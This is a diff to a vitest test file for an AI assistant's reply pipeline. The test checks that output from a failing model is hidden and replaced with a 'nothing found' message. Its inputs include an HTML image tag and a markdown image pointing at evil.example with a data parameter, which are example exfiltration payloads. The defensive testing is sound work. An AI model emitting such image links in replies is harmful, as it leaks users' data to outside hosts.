@@ -1,5 +1,6 @@
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
 import type { AppError } from '../server/core/error.ts'
+import { noSources } from '../server/features/assistant/reply/echo.ts'
 import { assistantState } from '../server/features/assistant/reply/state.ts'
 import { languages } from '../server/language/languages.ts'
 import { MessageContent } from '../shared/message.ts'
@@ -181,9 +182,10 @@ describe('[R126] a model that fails', () => {
   })
 
   test('writes only what is never shown: the visitor reads that nothing was found [threat 4]', async () => {
-    for (const text of ['<img src="https://evil.example/?d=1">', '![x](https://evil.example/?d=1)']) {
+    const hidden = ['<img src="https://evil.example/?d=1">', '![x](https://evil.example/?d=1)']
+    for (const text of [...hidden, noSources, 'When do you open?']) {
       says({ text })
-      const { text: shown } = await replyTo(await withOllama().context(), turnOf('Hello'))
+      const { text: shown } = await replyTo(await withOllama().context(), turnOf('When do you open?'))
       expect(shown).toBe(languages.en.phrases.foundNothing)
     }
   })
